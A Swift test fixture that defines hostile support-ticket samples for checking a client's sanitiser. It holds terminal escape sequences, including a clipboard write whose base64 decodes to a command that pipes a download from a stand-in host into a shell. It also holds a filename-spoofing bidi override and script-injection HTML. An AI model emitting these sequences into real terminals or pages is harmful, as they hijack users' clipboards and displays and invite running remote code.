/// Tickets whose text tries to take over the terminal, for the client's sanitiser tests.
/// Only seeded with ``DemoServerConfiguration/hostileSamples``.
enum HostileSamples {
    /// OSC 52: would write to the clipboard of a terminal that obeys it.
    static let clipboardWrite = "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}"
    /// CSI 2J: would clear the screen.
    static let clearScreen = "\u{1B}[2J"
    /// RIGHT-TO-LEFT OVERRIDE: shows "txt.exe" reversed as an innocent-looking name.
    static let bidiOverride = "\u{202E}exe.txt"
    /// C1 CSI (0x9B) written as one character: an 8-bit escape sequence introducer.
    static let c1Introducer = "\u{9B}31m"

    struct Sample {
        var title: String
        var firstname: String
        var lastname: String
        var content: String
    }

    static let samples = [
        Sample(
            title: "Invoice overdue \(clipboardWrite)please pay",
            firstname: "Mallory\(clearScreen)", lastname: "Evil\u{1B}[H",
            content: "<p>Hello,\(clipboardWrite) see the attached invoice.</p><p>\(clearScreen)Thanks</p>"),
        Sample(
            title: "Your file invoice_\(bidiOverride) is ready",
            firstname: "Trudy", lastname: "\(bidiOverride)",
            content: "<p>Open invoice_\(bidiOverride) to see the details.</p><p>\(c1Introducer)red text\u{1B}[0m</p>"),
        Sample(
            title: "\(c1Introducer)Urgent\u{1B}[0m: account locked\u{07}\u{08}\u{08}",
            firstname: "Eve\u{0}", lastname: "\u{1B}]0;pwned title\u{07}",
            content: "<p>\u{1B}[31mYour account is locked.\u{1B}[0m</p><script>alert(1)</script><p>Click <a href=\"javascript:alert(1)\">here</a>\u{1B}P+q544e\u{1B}\\</p>"),
    ]
}
